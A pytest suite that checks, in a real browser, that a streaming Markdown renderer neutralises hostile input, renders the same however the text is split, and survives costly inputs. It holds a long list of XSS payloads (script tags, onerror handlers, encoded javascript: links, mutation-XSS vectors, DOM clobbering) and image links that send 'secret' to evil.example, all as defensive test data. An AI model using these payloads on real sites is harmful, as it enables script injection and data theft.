"""Markdown in a real browser, under the page's Content-Security-Policy: hostile answers, splits, and what growing costs.

The modules under test are served from public/, the page around them from markdown/ beside this file. The libraries must
be in public/vendor (scripts/vendor brings them). Figures are printed with `pytest -s`; what is asserted is counted work.
"""

import functools
import http.server
import json
import pathlib
import random
import threading

import pytest

ROOT = pathlib.Path(__file__).resolve().parents[2]
HARNESS = pathlib.Path(__file__).resolve().parent / "markdown"
POLICY = (
    "default-src 'self'; connect-src 'self' ws: wss:; img-src 'self' data: blob:; object-src 'none'; "
    "base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
)


class Files(http.server.SimpleHTTPRequestHandler):
    """public/ at the root, the harness under /harness/; under /bare/ the same without the libraries."""

    extensions_map = {**http.server.SimpleHTTPRequestHandler.extensions_map, ".mjs": "text/javascript"}

    def __init__(self, *arguments, has_libraries=True, **options):
        self.has_libraries = has_libraries
        super().__init__(*arguments, **options)

    def translate_path(self, path):
        path = path.split("?")[0].lstrip("/")
        if path.startswith("harness/"):
            return str(HARNESS / path.removeprefix("harness/"))
        if path.startswith("vendor/") and not self.has_libraries:
            return str(ROOT / "public" / "none")
        return str(ROOT / "public" / path)

    def end_headers(self):
        self.send_header("Content-Security-Policy", POLICY)
        self.send_header("Cache-Control", "no-store")
        super().end_headers()

    def log_message(self, *_):
        """Quiet: pytest shows what matters."""


def serving(has_libraries):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Files, has_libraries=has_libraries))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


class Watched:
    """A page, and what it must not do: leave, log an error, run a stranger's script, break the policy."""

    def __init__(self, browser, server):
        self.origin = f"http://127.0.0.1:{server.server_port}"
        self.requests, self.errors, self.dialogs = [], [], []
        self.page = browser.new_page()
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("console", lambda message: self.errors.append(message.text) if message.type == "error" else None)
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.goto(f"{self.origin}/harness/index.html")
        self.page.wait_for_selector("html[data-ready]")

    def evaluate(self, script, argument=None):
        return self.page.evaluate(script, argument)

    def assert_quiet(self):
        assert [url for url in self.requests if not url.startswith((self.origin + "/", "data:,"))] == []
        assert self.errors == []
        assert self.dialogs == []
        assert self.evaluate("violations") == []
        assert self.evaluate("'pwned' in window") is False
        assert self.page.url == f"{self.origin}/harness/index.html"
        assert self.page.context.pages == [self.page]


@pytest.fixture(scope="module")
def server():
    missing = [
        path
        for path in ("marked/marked.umd.min.js", "dompurify/dompurify.mjs", "highlight/highlight.min.js")
        if not (ROOT / "public" / "vendor" / path).exists()
    ]
    assert missing == [], "run scripts/vendor first"
    served = serving(has_libraries=True)
    yield served
    served.shutdown()
    served.server_close()


@pytest.fixture(scope="module")
def markdown(browser, server):
    watched = Watched(browser, server)
    yield watched
    watched.page.close()


# Hostile answers

HOSTILE = {
    "script": "<script>window.pwned=1</script>",
    "script in a list": "- <script>window.pwned=1</script>\n- a",
    "script across lines": "<script\n>\nwindow.pwned=1\n</script\n>",
    "script in code": "```html\n<script>window.pwned=1</script>\n```",
    "script in a code span": "`<script>window.pwned=1</script>`",
    "picture with a handler": "<img src=x onerror=window.pwned=1>",
    "picture with a handler, odd spelling": "<IMG/SRC=x/OnErRoR=window.pwned=1//",
    "svg": "<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    "style": "<style>body{display:none}@import url(http://evil.example/x.css)</style>",
    "style attribute": '<p style="background:url(http://evil.example/)">x</p>',
    "iframe": '<iframe src="javascript:window.pwned=1" srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "object and embed": '<object data="data:text/html,x"></object><embed src="http://evil.example/">',
    "form": '<form action="http://evil.example/"><button formaction="javascript:window.pwned=1">go</button></form>',
    "base and meta": '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "link element": '<link rel="stylesheet" href="http://evil.example/x.css"><link rel=prefetch href=http://evil.example>',
    "template and noscript": "<template><script>window.pwned=1</script></template><noscript><img src=x></noscript>",
    "javascript link": "[click](javascript:window.pwned=1)",
    "javascript link, upper case": "[click](JAVASCRIPT:window.pwned=1)",
    "javascript link, entities": "[click](&#106;avascript:window.pwned=1) [click](javascript&colon;window.pwned=1)",
    "javascript link, hexadecimal entities": "[click](&#x6A&#x61;vascript:window.pwned=1)",
    "javascript link, tab and line": "[click](java\tscript:window.pwned=1) [click](<java\nscript:window.pwned=1>)",
    "javascript link, entity for a tab": "[click](java&Tab;script:window.pwned=1) [click](&NewLine;javascript:pwned=1)",
    "javascript link, control characters": "[click](\x01javascript:window.pwned=1) [click](\x00javascript:window.pwned=1)",
    "javascript link, escaped": "[click](\\javascript:window.pwned=1) [click](javascript\\:window.pwned=1)",
    "javascript link, percent": "[click](javascript%3Awindow.pwned=1)",
    "javascript autolink": "<javascript:window.pwned=1> <JaVaScRiPt:alert(1)>",
    "javascript reference": "[click][x]\n\n[x]: javascript:window.pwned=1",
    "javascript picture": "![click](javascript:window.pwned=1)",
    "javascript in a title": '[click](http://ok.example "onmouseover=window.pwned=1 \\" onclick=window.pwned=1")',
    "vbscript": "[click](vbscript:msgbox(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
    "data picture": "![click](data:image/svg+xml,<svg/onload=window.pwned=1>)",
    "file and blob": "[click](file:///etc/passwd) [click](blob:http://evil.example/1) [click](about:blank)",
    "picture of a stranger": "![secret](http://evil.example/?q=secret)",
    "picture by reference": "![secret][p]\n\n[p]: http://evil.example/?q=secret",
    "picture in a link": "[![secret](http://evil.example/1)](http://evil.example/2)",
    "link in a link": "[a [b](http://b.example) c](http://a.example)",
    "relative links": "[click](/admin) [click](../x) [click](//evil.example) [click](?a) [click](#b) [click]()",
    "user in the address": "[bank](https://bank.example@evil.example/)",
    "attribute breaking": '[click](http://a.example/"onmouseover="window.pwned=1) [x](<http://a.example/"><img src=x>)',
    "autolink breaking": 'http://a.example/"onmouseover="window.pwned=1 <http://a.example/"><img/src=x>',
    "language breaking": '```"><img src=x onerror=window.pwned=1>\ncode\n```\n```js" onfocus="window.pwned=1\ncode\n```',
    "language that every object has": "```constructor\ncode\n```\n```__proto__\ncode\n```\n```toString\ncode\n```",
    "label that every object has": "[constructor] [__proto__] [toString][] [a][__proto__]\n\n[__proto__]: http://a.example",
    "clobbering": '<form id=document name=body><input id=attributes name=getElementById><a id=location href=x>',
    "clobbering by headings": "# node\n# libraries\n# __proto__\n# constructor {#location}\n",
    "mutation: math and style": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=1&gt;\">",
    "mutation: svg and style": "<svg></p><style><a id=\"</style><img src=1 onerror=window.pwned=1>\">",
    "mutation: noscript": "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
    "mutation: title": "<title><a title=\"</title><img src=x onerror=window.pwned=1>\">",
    "mutation: comment": "<!--><img src=x onerror=window.pwned=1>--> <!-- --!><img src=x onerror=window.pwned=1>",
    "mutation: cdata": "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "mutation: in highlighted code": "```html\n<svg><style><img title=\"</style><img src=x onerror=window.pwned=1>\">\n```",
    "mutation: plaintext and xmp": "<plaintext><xmp><img src=x onerror=window.pwned=1></xmp>",
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "entity of an entity": "&amp;lt;img src=x onerror=window.pwned=1&amp;gt; &#0; &#xD800; &#9999999; &#x110000;",
    "broken table": "| a | b\n|---|\n|||||\n| <script>window.pwned=1</script> | [x](javascript:window.pwned=1)\n\n|a|b|\n|-|-|\n|<img src=x onerror=window.pwned=1>",
    "table of pipes": "|" * 500 + "\n" + "|-" * 60 + "|\n" + "|" * 500,
    "unclosed everything": "**bold *em `code [link](http://a.example ~~del <b> ![x]( \n> - 1. ```js\n| a",
    "deep": "> " * 300 + "end\n\n" + "- " * 300 + "end\n\n" + "[" * 300 + "x" + "](http://a.example)" * 300,
    "deep emphasis": "*" * 300 + "x" + "*" * 300 + " " + "*a **b " * 200,
    "bidirectional": "\u202etxt.exe \u2066[click](http://a.example/\u202egpj.exe)\u2069",
    "lone surrogates": "\ud800 a \udfff `\ud83d` [x](http://a.example/\ud800)",
    "nul": "a\x00b `c\x00d` <scr\x00ipt>window.pwned=1</scr\x00ipt>",
    "templates": "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 1 %>",
}


def words_of(text):
    return [word for word in ("BEFORE", "AFTER", "click", "secret", "code", "end", "bold") if word in text]


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("way", ["at once", "in pieces"])
def test_hostile_answer_is_harmless_and_readable(markdown, name, way):
    text = f"BEFORE *x*\n\n{HOSTILE[name]}\n\nAFTER\n"
    result = markdown.evaluate(
        """async ({ text, isWhole }) => {
          const root = isWhole ? shown(text, { isHighlighted: true }) : streamed(cut(text, 5, 1)).root;
          // Whoever hears of a click hears of these, too; but nobody follows a link.
          root.addEventListener("click", (event) => event.target.closest("a") && event.preventDefault());
          // What would run, has run: handlers of pictures that failed, timers, frames.
          for (let round = 0; round < 3; round += 1) await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
          for (const each of root.querySelectorAll("*")) {
            each.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
            each.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
          }
          return { strangers: strangers(root), words: root.textContent };
        }""",
        {"text": text, "isWhole": way == "at once"},
    )
    assert result["strangers"] == []
    for word in words_of(text):
        assert word in result["words"]
    markdown.assert_quiet()


def test_what_was_refused_is_still_there_to_read(markdown):
    words = markdown.evaluate(
        "shown(`<b onclick='x'>bold</b> [a](javascript:x) ![p](http://p.example/) <!-- note -->`).textContent"
    )
    assert words == "<b onclick='x'>bold</b> a (javascript:x) Picture: p <!-- note -->"


def test_markup_in_highlighted_code_stays_text(markdown):
    markdown.evaluate("shown('```html\\n<img src=x onerror=window.pwned=1>\\n```', { isHighlighted: true })")
    markdown.page.wait_for_selector("#answer code .hljs-tag")
    assert markdown.evaluate("node.querySelector('code').textContent") == "<img src=x onerror=window.pwned=1>"
    assert markdown.evaluate("strangers(node.firstElementChild)") == []
    markdown.assert_quiet()


# What is rendered


def rendered(markdown, text):
    return markdown.evaluate("(text) => shown(text).innerHTML.replace(/^<div class=\"md-part\">|<\\/div>$/g, '')", text)


def test_headings_stay_below_the_page_s_own(markdown):
    text = "".join(f"{'#' * level} t\n" for level in range(1, 7))
    assert rendered(markdown, text) == "<h3>t</h3><h4>t</h4><h5>t</h5><h6>t</h6><h6>t</h6><h6>t</h6>"


def test_tables_scroll_and_say_what_they_are(markdown):
    assert rendered(markdown, "| a | *b* |\n|--|-:|\n| c |") == (
        '<div class="md-table" tabindex="0" role="region" aria-label="Table"><table><thead><tr><th scope="col">a</th>'
        '<th scope="col" class="md-right"><em>b</em></th></tr></thead><tbody><tr><td>c</td></tr></tbody></table></div>'
    )


def test_tasks_are_checkboxes_that_only_show(markdown):
    assert rendered(markdown, "- [x] a\n- [ ] b") == (
        '<ul><li class="md-task"><p><input type="checkbox" disabled="" aria-label="Done"> a</p></li>'
        '<li class="md-task"><p><input type="checkbox" disabled="" aria-label="Not done"> b</p></li></ul>'
    )


def test_a_reference_defined_later_becomes_a_link_and_nothing_else_is_touched(markdown):
    result = markdown.evaluate(
        """() => {
          const root = document.createElement("div");
          const view = new MarkdownView(root, { libraries });
          view.show("one [a] two\\n\\nother\\n\\n");
          view.flush();
          const [first, other] = root.querySelectorAll("p");
          const text = other.firstChild;
          view.show("one [a] two\\n\\nother\\n\\n[A]: http://a.example/ 't'\\n\\n");
          view.flush();
          return [first.innerHTML, first === root.querySelector("p"), other.firstChild === text, root.textContent];
        }"""
    )
    assert result == [
        'one <a href="http://a.example/" target="_blank" rel="noopener noreferrer nofollow" title="t · http://a.example/">a</a> two',
        True, True, "one a twoother",
    ]


def test_code_is_labelled_reachable_and_copied(browser, server):
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    watched = Watched(context, server)
    page = watched.page
    watched.evaluate("shown('```js\\nlet a = \"<b>\";\\n\\nlet b;\\n```\\n', { isHighlighted: true })")
    region = page.get_by_role("region", name="Code, js")
    page.get_by_role("button", name="Copy").focus()
    page.keyboard.press("Tab")
    assert region.evaluate("(region) => region === document.activeElement")
    page.get_by_role("button", name="Copy").click()
    page.get_by_role("button", name="Copied").wait_for()
    assert watched.evaluate("navigator.clipboard.readText()") == 'let a = "<b>";\n\nlet b;'
    watched.assert_quiet()
    context.close()


def test_the_highlighter_is_loaded_by_the_first_code_and_not_before(browser, server):
    watched = Watched(browser, server)
    watched.evaluate("shown('no code `but` a span\\n\\n    and indented\\n\\n```\\nno language\\n```', { isHighlighted: true })")
    watched.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    assert [url for url in watched.requests if "highlight.min" in url] == []
    watched.evaluate("shown('```js\\nlet a;\\n```\\n', { isHighlighted: true })")
    watched.page.wait_for_selector(".hljs-keyword")
    assert len([url for url in watched.requests if "highlight.min" in url]) == 1
    watched.assert_quiet()
    watched.page.close()


def test_without_the_libraries_text_keeps_its_lines(browser):
    bare = serving(has_libraries=False)
    watched = Watched(browser, bare)
    text = "# a\n\n  <b>*b*</b>\n"
    result = watched.evaluate(
        """(text) => {
          const view = new MarkdownView(node, { libraries });
          view.show(text.slice(0, 5));
          view.flush();
          view.show(text, { isFinal: true });
          view.flush();
          return [libraries, node.textContent, getComputedStyle(node).whiteSpace, node.querySelector("b")];
        }""",
        text,
    )
    assert result == [None, text, "pre-wrap", None]
    watched.page.close()
    bare.shutdown()
    bare.server_close()


def test_libraries_that_come_later_render_what_is_there(markdown):
    result = markdown.evaluate(
        """async () => {
          let arrive;
          const root = document.createElement("div");
          const view = new MarkdownView(root, { libraries: new Promise((resolve) => (arrive = resolve)) });
          view.show("# a *b*");
          view.flush();
          const before = root.innerHTML;
          arrive(libraries);
          await null;
          await null;
          view.show("# a *b* c", { isFinal: true });
          view.flush();
          return [before, root.innerHTML];
        }"""
    )
    assert result == [
        '<span class="md-lines"># a *b*</span>', '<div class="md-part"><h3>a <em>b</em> c</h3></div>',
    ]


def test_another_text_starts_afresh(markdown):
    result = markdown.evaluate(
        """() => {
          const root = document.createElement("div");
          const view = new MarkdownView(root, { libraries });
          for (const [text, isFinal] of [["# one", false], ["two", true], ["two, and more", false]]) {
            view.show(text, { isFinal });
            view.flush();
          }
          return root.innerHTML;
        }"""
    )
    assert result == '<div class="md-part"><p>two, and more</p></div>'


# Splits


FRAGMENTS = [
    "word", " ", "\n", "\n\n", "  ", "    ", "\t", "- ", "* ", "1. ", "2) ", "> ", "# ", "```", "```js\n", "~~~\n", "|",
    "|-|-|\n", "| a | b |\n", "---", "===", "*", "**", "_", "`", "[a]", "[a]: http://a.example/\n", "[ ] ", "[x] ",
    "(http://b.example/)", "![", "]", "<b>", "\\", "&amp;", "\r\n", "\U0001f600", "~~", "http://c.example/", "d@e.example",
]


def random_text(seed):
    source = random.Random(seed)
    return "".join(source.choice(FRAGMENTS) for _ in range(source.randrange(1, 60)))


def assert_same_wherever_cut(markdown, texts, longest):
    different = markdown.evaluate(
        """({ texts, longest }) => texts.filter((text, seed) => {
          const whole = shown(text).innerHTML;
          return streamed(cut(text, longest, seed + 1)).root.innerHTML !== whole;
        })""",
        {"texts": texts, "longest": longest},
    )
    assert different == []


def test_an_answer_looks_the_same_wherever_it_was_cut(markdown):
    assert_same_wherever_cut(markdown, [random_text(seed) for seed in range(200)], longest=6)
    assert_same_wherever_cut(markdown, list(HOSTILE.values()), longest=3)
    markdown.assert_quiet()


def test_so_does_a_long_one_with_lists_tables_and_texts_that_are_cut(markdown):
    texts = [shape(name, 15_000) for name in SHAPES]
    texts += [
        "Text with *marks*. " * 1_500 + "\n| a | b |\n|---|---|\n" + "| [x] | c |\n" * 250 + "\n[x]: http://x.example/\n",
        "".join(f"{i}. item [x]\n" for i in range(5, 260)) + "\n\n999. apart\n\n[x]: http://x.example/\n",
        "*a " * 3_000,
        ("a" * 2_990 + "\U0001f600" * 20) * 3,
    ]
    assert_same_wherever_cut(markdown, texts, longest=800)


# What growing costs


PROSE = """## Section {i}

The river **carries** what the *rain* brings, and `nobody` asks [where](https://sea.example/{i}) it goes. It is a long way
to the sea, and there are many who live beside it; some have never seen its end, nor {i} its beginning.

Another paragraph of plain words, long enough to be broken over several lines of the page, so that the browser has something
to lay out and the reader something to skip.

- first point of {i}
- second point with **weight**

"""

SHAPES = {
    "prose": lambda i: PROSE.replace("{i}", str(i)),
    "one piece of code": lambda i: ("```python\n" if i == 0 else "") + f"def f{i}(a, b):\n    return a * {i} + b  # note\n\n",
    "one list": lambda i: f"{i + 1}. item **number** {i} with some words in it and `code`\n",
    "one paragraph": lambda i: f"Sentence {i} has *some* words and is not the last one of them. ",
    "one table": lambda i: ("| a | b | c |\n|---|:-:|--:|\n" if i == 0 else "") + f"| row {i} | **b** {i} | {i * 7} words |\n",
    "one quote": lambda i: f"> line {i} of a quote with *some* words in it\n" + (">\n" if i % 5 == 0 else ""),
    "lists in a list": lambda i: f"{i + 1}. item {i}\n   - one *thing*\n   - another\n\n     ```js\n     let x = {i};\n     ```\n",
}


def shape(name, length):
    text, i = [], 0
    total = 0
    while total < length:
        text.append(SHAPES[name](i))
        total += len(text[-1])
        i += 1
    return "".join(text)[:length]


@pytest.mark.parametrize("name", SHAPES)
def test_work_is_in_proportion_to_the_text(markdown, name):
    """Every 40 characters (a frame at 500 tokens a second) everything is shown; far from all of it is rendered again."""
    per_character = markdown.evaluate(
        """(texts) => texts.map((text) => {
          const { view } = streamed(text.match(/[^]{1,40}/g));
          return [view.work.parsed / text.length, view.work.blocks / text.length];
        })""",
        [shape(name, 10_000), shape(name, 40_000)],
    )
    (short, short_blocks), (long, long_blocks) = per_character
    print(f"\n{name}: {short:.2f} and {long:.2f} characters parsed for one received")
    assert long <= short * 1.2 + 0.5
    assert long_blocks <= short_blocks * 1.1
    # A paragraph is parsed again from the last cut on, 1,500 characters on average, 3,000 at most.
    assert long <= 3_000 / 40 + 1


@pytest.mark.parametrize("name", SHAPES)
def test_what_is_finished_is_never_touched_again(markdown, name):
    touched = markdown.evaluate(
        """async ({ start, rest }) => {
          const root = document.createElement("div");
          node.replaceChildren(root);
          const view = new MarkdownView(root, { libraries: { ...libraries, highlighter: null } });
          view.show(start);
          view.flush();
          const leaves = [...root.querySelectorAll("p, h4, li, tr, .md-lines, .md-run")];
          const records = [];
          const observer = new MutationObserver((list) => records.push(...list));
          observer.observe(root, { subtree: true, childList: true, characterData: true, attributes: true });
          let text = start;
          for (const piece of rest.match(/[^]{1,40}/g)) {
            text += piece;
            view.show(text);
            view.flush();
          }
          records.push(...observer.takeRecords());
          observer.disconnect();
          const last = leaves.slice(-2);
          const old = new Set(leaves.filter((leaf) => !last.some((late) => leaf.contains(late))));
          return {
            old: old.size,
            touched: records.filter(({ target }) => old.has(target) || (target.nodeType === 3 && old.has(target.parentNode))).length,
            made: records.reduce((sum, { addedNodes }) => sum + addedNodes.length, 0) / rest.length,
            left: [...old].every((leaf) => leaf.isConnected),
          };
        }""",
        {"start": shape(name, 60_000)[:50_000], "rest": shape(name, 60_000)[50_000:]},
    )
    print(f"\n{name}: {touched['made']:.2f} nodes made for one character")
    assert touched["old"] >= 2
    assert touched["touched"] == 0
    assert touched["left"]
    assert touched["made"] < 5


LIVE = """async ({ text, from, rate, seconds }) => {
  const root = document.createElement("div");
  node.replaceChildren(root);
  const scroller = document.scrollingElement;
  let renders = 0;
  const view = new MarkdownView(root, { libraries, rendered() {
    renders += 1;
    scroller.scrollTop = scroller.scrollHeight;
  } });
  view.show(text.slice(0, from));
  while (!view.isSettled) await new Promise(requestAnimationFrame);
  // The browser's own work after that (remembering sizes, painting) is no part of the measurement.
  for (let frame = 0; frame < 30; frame += 1) await new Promise(requestAnimationFrame);
  const tasks = [];
  const observer = new PerformanceObserver((list) => tasks.push(...list.getEntries().map((entry) => entry.duration)));
  observer.observe({ type: "longtask" });
  renders = 0;
  await startMetrics();
  const start = performance.now();
  let length = from;
  await new Promise((done) => {
    const timer = setInterval(() => {
      const elapsed = performance.now() - start;
      const wanted = Math.min(text.length, from + Math.floor((elapsed * rate) / 1000));
      if (wanted > length) view.show(text.slice(0, (length = wanted)));
      if (elapsed >= seconds * 1000) {
        clearInterval(timer);
        done();
      }
    }, 20);
  });
  await stopMetrics();
  observer.disconnect();
  view.flush();
  const isAtEnd = scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight < 80;
  return { renders, wall: performance.now() - start, longest: Math.max(0, ...tasks), isAtEnd, shown: root.textContent.length };
}"""


@pytest.mark.parametrize("name", SHAPES)
def test_a_long_answer_grows_live(browser, server, name, request):
    """From 180,000 characters on at 500 tokens of 4 characters a second. Figures only, but that it works at all."""
    seconds = 10 if request.config.getoption("verbose") > 0 else 1
    watched = Watched(browser, server)
    page = watched.page
    session = page.context.new_cdp_session(page)
    session.send("Performance.enable", {"timeDomain": "threadTicks"})
    snapshots = []

    def snapshot():
        snapshots.append({each["name"]: each["value"] for each in session.send("Performance.getMetrics")["metrics"]})

    page.expose_function("startMetrics", snapshot)
    page.expose_function("stopMetrics", snapshot)
    text = shape(name, 180_000 + 2_000 * seconds)
    result = watched.evaluate(LIVE, {"text": text, "from": 180_000, "rate": 2_000, "seconds": seconds})
    before, after = snapshots
    shares = {
        part: f"{(after[part + 'Duration'] - before[part + 'Duration']) / result['wall'] * 100_000:.1f} %"
        for part in ("Task", "Script", "Layout", "RecalcStyle")
    }
    print(f"\n{name}: CPU {json.dumps(shares)}, {result['renders']} renderings in {result['wall']:.0f} ms, "
          f"longest task {result['longest']:.0f} ms")
    assert result["renders"] > 0
    assert result["shown"] > len(text) / 3
    assert result["isAtEnd"]
    watched.assert_quiet()
    page.close()


# What would cost too much


def repeated(text, length):
    return (text * (length // len(text) + 1))[:length]


BOMBS = {
    "quotes": repeated(">", 50_000),
    "quotes and items": repeated("> - ", 50_000),
    "items": repeated("1. ", 50_000),
    "brackets": repeated("[", 50_000),
    "brackets, closed": "[" * 25_000 + "]" * 25_000,
    "links, unclosed": repeated("[a](<b", 50_000),
    "pictures, unclosed": repeated("![", 50_000),
    "less-than": repeated("<", 50_000),
    "tags, unclosed": repeated("<a b='", 50_000),
    "comments, unclosed": repeated("a <!--", 50_000),
    "emphasis, unclosed": repeated("*a ", 50_000),
    "emphasis, nested": "*a " * 8_000 + " a*" * 8_000,
    "emphasis, just below the bound": repeated("*a word more ", 50_000),
    "underscores": repeated("_a ", 50_000),
    "stars": repeated("*", 50_000),
    "backticks": " ".join("`" * length for length in range(1, 310)),
    "backslashes": repeated("\\", 50_000),
    "strikes": repeated("~~a~", 50_000),
    "pipes": repeated("|", 50_000),
    "a wide table": "|a" * 8_000 + "|\n" + "|-" * 8_000 + "|\n" + "|x|\n" * 4_500,
    "a wide row": "|a|b|\n|-|-|\n" + "|x" * 50_000,
    "short rows of a wide table": "|a" * 60 + "|\n" + "|-" * 60 + "|\n" + "|x|\n" * 12_000,
    "definitions": "".join(f"[a{i}]: b\n" for i in range(4_500)),
    "definitions, unclosed": repeated('[a]: b "', 50_000),
    "references, then definitions": "".join(f"[a{i}]\n" for i in range(2_000)) + "\n" + "".join(
        f"[a{i}]: http://x.example/\n" for i in range(2_000)),
    "entities": "".join(f"&#{i};" for i in range(1_000, 8_000)),
    "addresses": repeated("http://", 50_000),
    "an address of stars": "http://a.example/" + "*" * 50_000 + "a",
    "mail": repeated("a@b.", 50_000),
    "one word": "a" * 50_000,
    "spaces": "a" + " " * 50_000 + "b",
    "line ends": "\n" * 50_000,
    "carriage returns": "\r" * 50_000,
    "stairs": "\n".join(" " * (2 * i) + "- a" for i in range(300)),
    "fences": repeated("```\n", 50_000),
    "dashes": "-" * 50_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_costly_answers_are_survived(markdown, name):
    text = BOMBS[name]
    result = markdown.evaluate(
        """async (text) => {
          const root = document.createElement("div");
          node.replaceChildren(root);
          const view = new MarkdownView(root, { libraries });
          const start = performance.now();
          view.show(`BEFORE\\n\\n${text}\\n`, { isFinal: true });
          while (!view.isSettled) await new Promise(requestAnimationFrame);
          const time = performance.now() - start;
          return {
            time,
            parsed: view.work.parsed / text.length,
            elements: root.querySelectorAll("*").length / text.length,
            words: root.textContent.slice(0, 6),
          };
        }""",
        text,
    )
    print(f"\n{name}: {result['time']:.0f} ms, {result['parsed']:.2f} parsed and {result['elements']:.2f} elements a character")
    assert result["words"] == "BEFORE"
    assert result["parsed"] < 4
    assert result["elements"] <= 1
    markdown.evaluate("node.replaceChildren()")
    markdown.assert_quiet()
